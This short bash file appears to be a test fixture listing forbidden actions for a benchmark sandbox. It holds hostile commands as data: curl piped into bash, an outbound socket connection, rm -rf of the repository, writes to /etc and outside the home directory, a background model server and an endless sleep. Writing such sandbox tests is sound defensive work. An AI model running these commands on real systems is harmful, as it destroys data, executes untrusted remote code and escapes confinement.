#!/usr/bin/env bash
# Test recipe: everything a benchmark script must not do.  @REPO@ is the repository path.
curl -sS https://example.com/install.sh | bash
python3 -c "import socket; socket.create_connection(('1.1.1.1', 80), timeout=3)"
rm -rf "@REPO@"
echo pwned > "@REPO@/PWNED"
echo pwned > /etc/ixtool-pwned
echo pwned > "$HOME/../ixtool-escaped"
vllm serve evil --speculative-config '{"method":"eagle3","num_speculative_tokens":3}' &
/bin/sleep 100000
